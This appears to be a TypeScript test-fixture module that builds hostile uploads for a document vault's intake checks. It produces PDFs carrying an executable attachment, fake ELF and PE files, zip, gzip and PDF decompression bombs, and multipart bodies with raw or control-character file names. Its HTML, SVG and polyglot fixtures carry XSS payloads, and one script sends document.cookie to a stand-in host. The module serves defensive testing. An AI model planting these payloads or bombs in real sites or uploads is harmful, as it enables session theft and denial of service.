import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { constants, crc32, createDeflate, createDeflateRaw, createGzip, deflateSync, type Deflate, type DeflateRaw, type Gzip } from 'node:zlib';

/** What the vault and the intake accept per file by default (MAX_UPLOAD_BYTES). */
export const UPLOAD_LIMIT_BYTES = 10_485_760;

// ---- PDFs --------------------------------------------------------------------------------------

type Part = string | Buffer;

/** A PDF of these objects (numbered from 1) with a correct cross-reference table, so a viewer opens it as it is. */
export function pdfOf(...objects: Part[][]): Buffer {
  const chunks: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  let at = chunks[0].length;
  for (const [index, parts] of objects.entries()) {
    offsets.push(at);
    const object = Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), ...parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)), Buffer.from('\nendobj\n')]);
    chunks.push(object);
    at += object.length;
  }
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  chunks.push(Buffer.from(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${at}\n%%EOF\n`));
  return Buffer.concat(chunks);
}

/** A stream object: its dictionary, with /Length added, and its bytes. */
export const streamObject = (dictionary: string, data: Buffer): Part[] => [`<< ${dictionary} /Length ${data.length} >>\nstream\n`, data, '\nendstream'];

const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>';
/** A one-page PDF whose catalog has `entries`, then `more` objects from number 4. */
export const onePagePdf = (entries = '', ...more: Part[][]) => pdfOf([`<< /Type /Catalog /Pages 2 0 R ${entries} >>`], [PAGES], [PAGE], ...more);

/** An object stream (PDF 1.5) holding `objects`, numbered from `first`, Flate-encoded. */
export function objectStream(objects: readonly string[], first: number): Part[] {
  let offsets = '';
  let body = '';
  for (const [index, object] of objects.entries()) {
    offsets += `${first + index} ${body.length} `;
    body += `${object}\n`;
  }
  return streamObject(`/Type /ObjStm /N ${objects.length} /First ${offsets.length} /Filter /FlateDecode`, deflateSync(Buffer.from(offsets + body, 'latin1')));
}

/** A valid PDF of exactly `size` bytes: one page and an image stream of random bytes that fills the rest. */
export function pdfOfSize(size: number): Buffer {
  const image = (length: number) => onePagePdf('', streamObject('/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /DCTDecode', randomBytes(length)));
  let length = size - image(0).length;
  // The /Length's own digits take room too: settle it in a step or two.
  while (image(length).length !== size) length += size - image(length).length;
  return image(length);
}

/**
 * A real PDF with an attachment, as poppler's pdfattach makes one: the file a citizen could
 * get from any office tool, not only one written by hand for this test.
 */
export async function pdfWithRealAttachment(): Promise<Buffer> {
  const dir = await mkdtemp(join(tmpdir(), 'hostile-attach-'));
  try {
    await writeFile(join(dir, 'scan.pdf'), onePagePdf());
    await writeFile(join(dir, 'invoice.exe'), Buffer.concat([Buffer.from('MZ'), randomBytes(200)]));
    await promisify(execFile)('pdfattach', [join(dir, 'scan.pdf'), join(dir, 'invoice.exe'), join(dir, 'attached.pdf')]);
    return await readFile(join(dir, 'attached.pdf'));
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}

// ---- what is not a PDF, claimed as one -----------------------------------------------------------

export const elfExecutable = () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(8), Buffer.from([0x02, 0x00, 0x3e, 0x00]), randomBytes(236)]);
export const peExecutable = () => Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), Buffer.alloc(52), Buffer.from([0x80, 0, 0, 0]), Buffer.alloc(64), Buffer.from('PE\0\0', 'latin1'), randomBytes(200)]);
export const htmlPage = () => Buffer.from('<!DOCTYPE html>\n<html><body><script>fetch("https://evil.example/?c=" + document.cookie)</script></body></html>\n');
export const svgWithXmlDeclaration = () => Buffer.from('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>\n');
export const svgBare = () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>alert(1)</script></svg>\n');
/** A PDF's magic followed by HTML: a polyglot that is a PDF by its content, served only as a download. */
export const pdfHeaderThenHtml = () => Buffer.from('%PDF-1.4\n<html><script>alert(document.domain)</script></html>\n%%EOF\n');

/** `size` zero bytes through a zlib stream, a megabyte at a time, so the bomb never exists inflated here. */
async function compressZeros(stream: Deflate | DeflateRaw | Gzip, size: number): Promise<Buffer> {
  const chunks: Buffer[] = [];
  stream.on('data', (chunk: Buffer) => chunks.push(chunk));
  const done = new Promise<void>((resolve, reject) => stream.on('end', resolve).on('error', reject));
  const megabyte = Buffer.alloc(1024 * 1024);
  for (let written = 0; written < size; written += megabyte.length) {
    if (!stream.write(megabyte.subarray(0, Math.min(megabyte.length, size - written)))) await new Promise((resolve) => stream.once('drain', resolve));
  }
  stream.end();
  await done;
  return Buffer.concat(chunks);
}

/** A zip of one file of `size` zero bytes (deflated to about a thousandth of that). */
export async function zipBomb(size: number): Promise<Buffer> {
  const data = await compressZeros(createDeflateRaw({ level: constants.Z_BEST_COMPRESSION }), size);
  let crc = 0;
  const megabyte = Buffer.alloc(1024 * 1024);
  for (let summed = 0; summed < size; summed += megabyte.length) crc = crc32(megabyte.subarray(0, Math.min(megabyte.length, size - summed)), crc);
  const name = Buffer.from('zeros.bin');
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8); // deflate
  local.writeUInt32LE(crc >>> 0, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(size, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(crc >>> 0, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(size, 24);
  central.writeUInt16LE(name.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + name.length, 12);
  end.writeUInt32LE(local.length + name.length + data.length, 16);
  return Buffer.concat([local, name, data, central, name, end]);
}

export const gzipBomb = (size: number) => compressZeros(createGzip({ level: constants.Z_BEST_COMPRESSION }), size);

/** A PDF whose page stream inflates to `size` bytes: the platform stores it as sent, never inflating it. */
export async function pdfWithInflatingPage(size: number): Promise<Buffer> {
  return onePagePdf('', streamObject('/Filter /FlateDecode', await compressZeros(createDeflate({ level: constants.Z_BEST_COMPRESSION }), size)));
}

/** A PDF whose object stream inflates to `size` bytes: read for names, so inflated, but only so far. */
export async function pdfWithInflatingObjectStream(size: number): Promise<Buffer> {
  return onePagePdf('', streamObject('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', await compressZeros(createDeflate({ level: constants.Z_BEST_COMPRESSION }), size)));
}

// ---- multipart, by hand ---------------------------------------------------------------------------

/**
 * How the file name goes into the part's Content-Disposition. HTTP clients' form encoders
 * tidy names (form-data keeps only the base name, undici escapes quotes and line breaks), so
 * the body is written here byte for byte: `raw` puts the name between quotes as it is,
 * `extended` as RFC 5987 `filename*=UTF-8''…`, which carries NUL and control characters intact.
 */
export type NameEncoding = 'raw' | 'extended';

export interface UploadPart {
  readonly content: Buffer;
  readonly fileName: string;
  readonly contentType: string;
  readonly encoding?: NameEncoding;
}

export function multipartBody(fields: Record<string, string>, file: UploadPart): { body: Buffer; contentType: string } {
  const boundary = `----hostile${randomBytes(12).toString('hex')}`;
  const name = file.encoding === 'extended' ? `filename*=UTF-8''${encodeURIComponent(file.fileName)}` : `filename="${file.fileName}"`;
  const parts = [
    ...Object.entries(fields).map(([field, value]) => Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${field}"\r\n\r\n${value}\r\n`)),
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; ${name}\r\nContent-Type: ${file.contentType}\r\n\r\n`, file.encoding === 'extended' ? 'utf8' : 'latin1'),
    file.content,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ];
  return { body: Buffer.concat(parts), contentType: `multipart/form-data; boundary=${boundary}` };
}
